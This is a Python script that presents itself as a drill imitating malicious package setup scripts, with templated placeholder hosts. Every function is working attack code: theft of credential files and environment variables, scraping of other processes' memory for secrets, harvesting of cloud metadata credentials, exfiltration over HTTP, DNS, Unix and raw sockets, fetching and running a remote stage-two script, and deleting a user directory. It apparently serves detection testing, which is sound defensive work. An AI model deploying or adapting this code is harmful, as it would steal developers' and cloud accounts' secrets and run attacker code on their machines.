"""Imitates what setup scripts of real incidents did, one verb each. It knows
only the sinks of the drill, and takes only the drill's canaries."""
import base64, http.client, os, re, shutil, socket, subprocess, sys

SINK, HOME, CARRIER, SRC = "@HTTP@", "@HOME@", "@CARRIER@", "@SRC@"


def loot():
    out = repr(dict(os.environ))
    for d in (HOME, os.path.expanduser("~")):
        for f in (".npmrc", ".aws/credentials", ".ssh/id_ed25519", ".kube/config", ".docker/config.json"):
            try:
                out += open(os.path.join(d, f)).read()
            except OSError:
                pass
    return out


def post(verb, body):
    try:
        c = http.client.HTTPConnection(SINK, timeout=2)
        c.request("POST", "/" + verb, CARRIER + " " + body)
        c.getresponse().read()
    except OSError:
        pass


def get(host, path):
    try:
        c = http.client.HTTPConnection(host, timeout=2)
        c.request("GET", path)
        return c.getresponse().read().decode("latin1")
    except OSError:
        return ""


def keep(verb, text):
    try:
        open(os.path.join(SRC, "loot-" + verb), "w").write(text)
    except OSError:
        pass


def others():
    return [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def steal():
    l = loot()
    keep("steal", l)
    post("steal", base64.b64encode(l.encode()).decode())


def log():
    print("log: " + base64.b64encode(base64.b64encode(loot().encode())).decode())


def environ():
    out = ""
    for p in others():
        try:
            out += open("/proc/%s/environ" % p, encoding="latin1").read()
        except OSError:
            pass
    keep("environ", out)
    post("environ", out)


def one_memory(pid):
    out = ""
    with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
        for line in maps:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not m:
                continue
            lo, hi = int(m.group(1), 16), int(m.group(2), 16)
            try:
                mem.seek(lo)
                b = mem.read(min(hi - lo, 8 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            at = b.find(b'","isSecret":true')
            if at > 0:
                out += b[max(0, at - 60):at + 20].decode("latin1")
    return out


def memory():
    out = ""
    for p in others():
        try:
            out += one_memory(p)
        except OSError:
            pass
    keep("memory", out)
    post("memory", out)


def metadata():
    l = get("@META@", "/latest/meta-data/iam/security-credentials/build") + get("169.254.169.254", "/computeMetadata/v1/")
    keep("metadata", l)
    post("metadata", l)


def dns():
    host, port = "@DNS@".split(":")
    text = (CARRIER + os.environ.get("DEPLOY_TOKEN", "")).encode().hex().encode()
    q = b"\0\1\1\0\0\1\0\0\0\0\0\0"
    for i in range(0, len(text), 60):
        q += bytes([len(text[i:i + 60])]) + text[i:i + 60]
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q + b"\0\0\1\0\1", (host, int(port)))


def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect("@UNIX@")
    s.sendall((CARRIER + loot()).encode())


def raw():
    host, port = "@TCP@".split(":")
    socket.create_connection((host, int(port)), 2).sendall((CARRIER + loot()).encode())


def smuggle():
    os.makedirs(os.path.join(SRC, "dist"), exist_ok=True)
    open(os.path.join(SRC, "dist/lib.wasm"), "wb").write(b"\0asm" + loot().encode().hex().encode())


def stage2():
    s = get(SINK, "/stage2.sh")
    if s:
        subprocess.run(["sh", "-c", s])


def wipe():
    for d in (HOME, os.path.expanduser("~")):
        shutil.rmtree(os.path.join(d, "docs"), ignore_errors=True)


def listen():
    s = socket.socket()
    s.bind(("0.0.0.0", 0))
    s.listen()
    post("listen", str(s.getsockname()[1]))
    s.settimeout(0.3)
    try:
        s.accept()[0].sendall(CARRIER.encode())
    except OSError:
        pass


def run(verbs):
    print("drill: @MARK@", flush=True)
    todo = {"steal": steal, "log": log, "environ": environ, "memory": memory, "metadata": metadata, "dns": dns, "socket": unix,
            "raw": raw, "smuggle": smuggle, "stage2": stage2, "wipe": wipe, "listen": listen, "exit": lambda: sys.exit(75)}
    for v in verbs:
        try:
            todo[v]()
        except OSError as e:
            print("drill: %s: %s" % (v, e))


if __name__ == "__main__":
    run(sys.argv[1:])
